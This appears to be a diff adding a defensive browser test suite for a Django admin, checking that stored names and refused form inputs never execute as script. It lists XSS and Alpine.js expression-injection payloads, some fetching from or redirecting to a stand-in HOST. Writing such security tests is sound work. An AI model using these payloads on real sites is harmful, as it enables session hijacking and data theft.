@@ -1,0 +1,192 @@
+"""What colleagues with few rights may type, on the pages of somebody who may do everything: it runs nowhere."""
+
+from collections.abc import Iterator
+from typing import Any
+
+import pytest
+from django.contrib.auth.models import Group, User
+from django.test import Client
+from django.urls import reverse
+
+from delivery.db import ids
+from delivery.models import ApiKey, Circuit, Owner
+from tests.browser import payloads
+from tests.browser.watching import Listener, Watched
+
+pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]
+
+BATCH = 20  # as many names as the help text of a new key shows
+# Second barrier: what Alpine's expressions could be made to do if a text ever got through unescaped.
+EXPRESSIONS = [
+    "pwn()",
+    "window.pwn()",
+    "globalThis.pwn()",
+    "$el.ownerDocument.defaultView.pwn()",
+    "$root.ownerDocument.defaultView.pwn()",
+    "$el.constructor.constructor('pwn()')()",
+    "[].constructor.constructor('pwn()')()",
+    "''['const'+'ructor']['constr'+'uctor']('pwn()')()",
+    "theme.constructor('pwn()')()",
+    "window.location.constructor.constructor('pwn()')()",
+    "window.location.href='javascript:pwn()'",
+    "window.location.href='data:text/html,<script>pwn()</script>'",
+    "window.location.href='//HOST/'",
+    "window.location='//HOST/'",
+    "$el.innerHTML='<img src=x onerror=pwn()>'",
+    "$el.outerHTML='<img src=x onerror=pwn()>'",
+    "$el.insertAdjacentHTML('beforeend','<img src=x onerror=pwn()>')",
+    "$el.setAttribute('onclick','pwn()')",
+    "$el.onclick='pwn()'",
+    "$el.ownerDocument.write('<script>pwn()</script>')",
+    "$el.attributes[0].value='pwn()'",
+    "$nextTick(pwn)",
+    "$watch('adminTheme',pwn)",
+    "$persist(pwn())",
+    "$dispatch('load',pwn())",
+    "$el.animate.constructor('pwn()')()",
+    "$el.ownerDocument.createElement('script')",
+    "import('//HOST/m.js')",
+    "fetch('//HOST/f')",
+    "new Function('pwn()')()",
+    "eval('pwn()')",
+    "setTimeout('pwn()')",
+    "adminTheme=pwn()",
+    "(function(){pwn()})()",
+    "(()=>pwn())()",
+    "`${pwn()}`",
+]
+
+
+@pytest.fixture
+def colleague(watched: Watched, settings: Any) -> Client:
+    """Somebody in the same session: what is said to them is read by the browser."""
+    settings.MESSAGE_STORAGE = "django.contrib.messages.storage.session.SessionStorage"
+    client = Client()
+    client.cookies["sessionid"] = next(
+        cookie["value"] for cookie in watched.page.context.cookies() if cookie["name"] == "sessionid"
+    )
+    return client
+
+
+def test_no_name_runs_in_a_label_a_help_text_or_a_message(
+    watched: Watched, elsewhere: Listener, colleague: Client
+) -> None:
+    for texts in batches(elsewhere.host):
+        named(texts)
+        for owner in Owner.objects.all():
+            said = colleague.post(
+                reverse("admin:delivery_owner_change", args=[owner.pk]), {"name": owner.name}
+            )
+            assert said.status_code == 302
+        for path in pages():
+            watched.open(path)
+
+    watched.settle()
+    assert (watched.ran, watched.blocked, watched.outside(), elsewhere.visits) == ([], [], [], 0)
+
+
+def test_no_refused_input_runs_where_it_is_named(
+    watched: Watched, elsewhere: Listener, colleague: Client
+) -> None:
+    forms = [
+        ("/admin/delivery/apikey/add/", {"owner_name": "shop", "granted": "send"}, "senders"),
+        ("/admin/delivery/apikey/add/", {"owner_name": "shop", "senders": ""}, "granted"),
+        ("/admin/auth/user/add/", {"usable_password": "true"}, "username"),
+        ("/admin/delivery/circuit/put-back/", {}, "provider"),
+        ("/admin/login/", {"password": "x"}, "username"),
+    ]
+    watched.page.route("**/refused/*", lambda route: route.fulfill(**answers[route.request.url[-1]]))
+    answers: dict[str, Any] = {}
+    texts = [text for batch in batches(elsewhere.host) for text in batch][::3]
+    assert len(texts) >= 60
+    for text in texts:
+        for number, (path, others, field) in enumerate(forms):
+            client = Client() if path.endswith("login/") else colleague
+            answer = client.post(path, {**others, field: text})
+            policy = {"Content-Security-Policy": answer["Content-Security-Policy"]}
+            answers[str(number)] = {"status": 200, "body": answer.content, "headers": {**policy, **HTML}}
+            watched.open(f"/admin/refused/{number}")
+
+    watched.settle()
+    assert (watched.ran, watched.blocked, watched.outside(), elsewhere.visits) == ([], [], [], 0)
+
+
+HTML = {"Content-Type": "text/html; charset=utf-8"}
+
+
+def test_what_got_through_unescaped_would_not_run_either(watched: Watched, elsewhere: Listener) -> None:
+    watched.open("/admin/delivery/apikey/add/")
+    kinds = [
+        "x-data x-init",
+        "x-data",
+        "x-data x-effect",
+        "x-data x-text",
+        "x-data x-html",
+        "x-data x-on:click",
+    ]
+    own = [f'<div {kind}="{text}">x</div>' for kind in kinds for text in EXPRESSIONS]
+    inserted = [text.replace(payloads.HOST, elsewhere.host) for text in own]
+    inserted += [
+        text for batch in batches(elsewhere.host) for text in batch if "http-equiv=refresh" not in text
+    ]
+
+    for text in inserted:
+        watched.page.evaluate(INSERT, text)
+
+    watched.settle()
+    assert watched.page.url == watched.base + "/admin/delivery/apikey/add/"
+    assert (watched.calls, watched.outside()) == (0, [])
+    assert watched.page.evaluate("document.querySelectorAll('[data-inserted]').length") == len(inserted)
+
+
+INSERT = """text => {
+    const place = document.createElement("div")
+    place.dataset.inserted = ""
+    place.innerHTML = text
+    document.body.append(place)
+    place.querySelectorAll("[x-data]").forEach(each => each.click())
+}"""
+
+
+def batches(host: str) -> Iterator[list[str]]:
+    texts = [payload.replace(payloads.HOST, host) for payload in payloads.ALL]
+    for start in range(0, len(texts), BATCH):
+        yield texts[start : start + BATCH]
+
+
+def named(texts: list[str]) -> None:
+    """Let everything that somebody names have such a name."""
+    for table in (ApiKey, Owner, Group, Circuit):
+        table.objects.all().delete()
+    User.objects.exclude(username="root").delete()
+    groups = [Group.objects.create(name=text[:150]) for text in texts]
+    for text in texts:
+        name = {"first_name": text[:150], "last_name": text[:150], "email": text[:254]}
+        User.objects.create(username=text[:150], is_staff=True, **name).groups.set(groups)
+        owner = Owner.objects.create(name=text.strip()[:100].strip() or "x")
+        ApiKey.objects.create(owner=owner, public_id=ids.uuid7().hex[-8:], scopes=texts, from_addresses=texts)
+    Circuit.objects.create(provider=texts[0][:50], state="out", changed_by=texts[0][:150], reason=texts[0])
+
+
+def pages() -> list[str]:
+    """Name every page of the admin that shows what somebody named."""
+    user, group = User.objects.exclude(username="root").earliest("pk"), Group.objects.earliest("pk")
+    key, owner = ApiKey.objects.earliest("pk"), Owner.objects.earliest("pk")
+    return [
+        "/admin/delivery/apikey/add/",  # the first page after the messages shows them
+        "/admin/",
+        "/admin/delivery/owner/",
+        f"/admin/delivery/owner/{owner.pk}/change/",
+        f"/admin/delivery/owner/{owner.pk}/history/",
+        "/admin/delivery/apikey/",
+        f"/admin/delivery/apikey/{key.pk}/change/",
+        f"/admin/delivery/apikey/{key.pk}/revoke/",
+        "/admin/delivery/circuit/",
+        "/admin/auth/user/",
+        f"/admin/auth/user/{user.pk}/change/",
+        f"/admin/auth/user/{user.pk}/password/",
+        f"/admin/auth/user/{user.pk}/delete/",
+        "/admin/auth/group/",
+        f"/admin/auth/group/{group.pk}/change/",
+        f"/admin/auth/group/{group.pk}/delete/",
+    ]
